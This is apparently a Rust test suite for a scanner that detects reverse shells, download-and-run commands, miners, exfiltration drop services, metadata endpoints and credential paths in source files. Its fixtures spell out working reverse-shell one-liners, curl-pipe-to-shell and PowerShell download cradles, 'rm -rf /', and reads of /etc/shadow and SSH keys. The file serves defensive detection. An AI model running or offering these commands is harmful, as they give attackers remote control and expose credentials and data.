//! Evidence in text: shells, miners, hosts and where stolen data goes; and what only reads like it.

use crate::support::{each_is, each_is_clean, rules, scan_files};

#[test]
fn reverse_shells_are_rejected() {
    each_is(
        "reverse-shell",
        "index.js",
        &[
            "const c = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
            "const c = `exec 5<>/dev/tcp/${host}/${port}; cat <&5`",
            "const c = 'nc -e /bin/sh 198.51.100.7 4444'",
            "const c = 'ncat 198.51.100.7 443 -e cmd.exe'",
            "const c = 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 1234 >/tmp/f'",
            "const c = \"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn(1)'\"",
            "const c = \"perl -e 'use Socket;socket(S,PF_INET,1,2);exec(\\\"/bin/sh -i\\\")'\"",
            "const c = 'powershell -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'",
            "const c = '$c = New-Object System.Net.Sockets.TCPClient(h,1);$s = $c.GetStream()'",
            "const c = 'socat exec:\"bash -li\",pty,stderr tcp:198.51.100.7:4444'",
            "const c = \"php -r '$s=fsockopen(h,1);'\"",
            "const c = 'true // ; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
            "const c = `true /* \\` */  # ; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`",
        ],
    );
    assert_eq!(
        rules("run.json", r#"{"c": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}"#),
        ["reverse-shell"]
    );
}

#[test]
fn harmful_shell_lines_are_flagged() {
    each_is(
        "shell-payload",
        "index.js",
        &[
            "const c = 'curl -s https://drop.example.org/x.sh | bash'",
            "const c = 'wget -q https://drop.example.org/x -O- | sudo sh'",
            "const c = 'curl -o /tmp/x https://drop.example.org/x && chmod +x /tmp/x && /tmp/x; ./x'",
            "const c = 'rm -rf / --no-preserve-root'",
            "const c = 'echo aGk= | base64 -d | sh'",
            "const c = 'IEX (New-Object Net.WebClient).DownloadString(u)'",
            "const c = 'certutil -urlcache -split -f https://drop.example.org/x'",
        ],
    );
}

#[test]
fn honest_words_are_no_shells() {
    each_is_clean(
        "index.js",
        &[
            "const help = 'usage: tool -e sh'",
            "const help = 'run `python -c \"print(1)\"` to try'",
            "// install it with: curl https://sh.example.org | sh\nmodule.exports = 1",
            "const doc = 'use curl or wget to fetch it'",
            "const c = 'rm -rf /tmp/cache'",
            "const name = 'powershell'",
            "const list = ['bash', 'sh', 'powershell', 'pwsh', 'curl ']",
            "const encode = 'curl https://api.example.org | jq .name'",
        ],
    );
    each_is_clean(
        "README.md",
        &["Never run `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`, xmrig or curl x | sh."],
    );
}

#[test]
fn miners_and_pools_are_found() {
    each_is(
        "mining-pool",
        "index.js",
        &["connect('stratum+tcp://xmr.example.org:3333')", "const pool = `stratum+ssl://${host}:443`"],
    );
    each_is(
        "miner",
        "index.js",
        &[
            "const file = 'xmrig'",
            "const site = 'https://coinhive.com/lib/coinhive.min.js'",
            "const algorithm = 'cryptonight'",
            "send({ method: 'mining.subscribe' })",
        ],
    );
    each_is_clean(
        "index.js",
        &["const layer = 'stratum'", "const schemes = ['stratum+tcp']", "determiner = 1"],
    );
}

#[test]
fn drop_services_are_flagged() {
    each_is(
        "drop-service",
        "index.js",
        &[
            "post('https://webhook.site/8a1b')",
            "post('https://abc123.ngrok.io/x')",
            "get('https://pastebin.com/raw/abcd')",
            "post('https://api.telegram.org/bot' + key)",
            "lookup('x.abcdefgh.oast.fun')",
            "lookup('abcdefgh.burpcollaborator.net')",
            "get('http://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion/')",
        ],
    );
    each_is_clean(
        "index.js",
        &["const site = 'https://mywebhook.sitemap.example.org'", "x.onion = 1", "const a = 'red.onion'"],
    );
    each_is_clean("README.md", &["Test it with https://webhook.site or ngrok.io."]);
}

#[test]
fn addresses_and_metadata_are_flagged() {
    each_is("address-url", "index.js", &["get('http://45.33.32.156/x')", "get(`https://45.33.32.156:8443`)"]);
    each_is(
        "cloud-metadata",
        "index.js",
        &["const u = '169.254.169.254'", "get('http://169.254.169.254/latest/')"],
    );
    each_is(
        "sensitive-path",
        "index.js",
        &["const p = home + '/.ssh/id_rsa'", "const p = '/etc/shadow'", "const p = '.aws/credentials'"],
    );
    each_is_clean(
        "index.js",
        &[
            "get('http://127.0.0.1:3000/')",
            "get('http://192.168.0.1/')",
            "get('http://203.0.113.9/')",
            "const version = '4.5.6.7890'",
            "const oid = '1.169.254.169.254.1'",
        ],
    );
}

#[test]
fn hosts_of_programs_are_noted() {
    let report = scan_files(&[
        (
            "index.js",
            "// see https://docs.example.com\nget('https://API.Example.org:8443/v1?x=https://b.example.net');\nlet a = '45.33.32.156', v = 'http://${x}/';",
        ),
        ("README.md", "https://readme.example.com"),
        ("lib.py", "URL = 'https://user@py.example.org/x'\n"),
    ]);
    let hosts: Vec<_> = report.facts.hosts.iter().map(String::as_str).collect();
    assert_eq!(hosts, ["45.33.32.156", "api.example.org", "b.example.net", "py.example.org"]);
}
